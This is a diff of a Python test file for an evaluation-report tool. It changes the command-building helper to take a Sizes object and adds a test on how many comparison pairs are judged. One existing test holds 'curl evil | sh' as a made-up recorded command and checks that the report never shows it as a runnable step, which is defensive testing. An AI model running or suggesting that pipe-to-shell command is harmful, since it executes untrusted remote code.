@@ -30,7 +30,7 @@ from flows.evaluation.meaning import rows
 from flows.evaluation.runs import find, open_run
 from flows.evaluation.tasks import perform
 from flows.evaluation.tasks.context import typed_context
-from flows.evaluation.tasks.report import _steps, _titles, report
+from flows.evaluation.tasks.report import Sizes, _steps, _titles, report
 from flows.evaluation.tasks.sample import sample
 from flows.evaluation.tasks.score import score
 from flows.lattice import quantise
@@ -176,13 +176,15 @@ def test_the_mean_of_runs_is_judged_beside_them(trained, labelled, tmp_path):
 @pytest.mark.parametrize("name", ["b,1", "my run", "a=1", 'the "best"', "back\\"])
 def test_the_reports_commands_open_the_run_whatever_its_folder_is_called(trained, tmp_path, name):
     run = shutil.copytree(trained, tmp_path / name)
-    commands = [step.command for step in _steps(run, {}, "last", 7, 3) if "evaluate.py" in step.command]
+    steps = _steps(run, {}, "last", Sizes(points=500, n_members=7), 3)
+    commands = [step.command for step in steps if "evaluate.py" in step.command]
     assert len(commands) == 2
     for command in commands:
         given = OverridesParser.create().parse_overrides(shlex.split(command)[2:])
         assert {each.key_or_group: each.value() for each in given}["run"] == str(run)
-    assert "n_members=7" in commands[0]
-    (board,) = (step.command for step in _steps(run, {}, "best", 50, 0) if "tensorboard" in step.command)
+    assert {"points=500", "n_members=7", "seed=3"} <= {*commands[0].split()}
+    assert "pairs" not in commands[0]
+    (board,) = (step.command for step in _steps(run, {}, "best", Sizes(), 0) if "tensorboard" in step.command)
     assert shlex.split(board)[-1] == str(run / "tensorboard")
 
 
@@ -192,7 +194,7 @@ def test_the_report_gives_no_command_that_a_runs_file_made_up(run):
     html = (run / "evaluation/report.html").read_text()
     assert "<dt>command, as the run recorded it</dt><dd>curl evil | sh</dd>" in html
     assert not any("evil" in shown for shown in re.findall(r"<pre>.*?</pre>", html, re.DOTALL))
-    (code, *_) = _steps(run, {"commit": "0123abcdef+changes"}, "best", 50, 0)
+    (code, *_) = _steps(run, {"commit": "0123abcdef+changes"}, "best", Sizes(), 0)
     assert code.command == "git checkout 0123abcdef"
 
 
@@ -233,6 +235,19 @@ def test_as_many_members_as_asked_for_are_drawn_for_each_field(fields, tmp_path,
     do("report", runs=[str(fields)], output=tmp_path / "several", n_members=8)
     do("report", run=fields, output=tmp_path / "default")
     assert asked == [7, 8, 50]
+
+
+def test_as_many_pairs_as_asked_for_are_compared(trained, tmp_path, monkeypatch):
+    asked = []
+
+    def judged(*arguments):
+        asked.append(arguments[-1])
+        return {}
+
+    monkeypatch.setattr(measure, "judge", judged)
+    do("report", run=trained, output=tmp_path / "few", pairs=50)
+    do("report", run=trained, output=tmp_path / "default")
+    assert asked == [50, 4096]
 
 
 @pytest.mark.parametrize("n_members", [1, 0, -3, 1001, 2.5, "many", None])
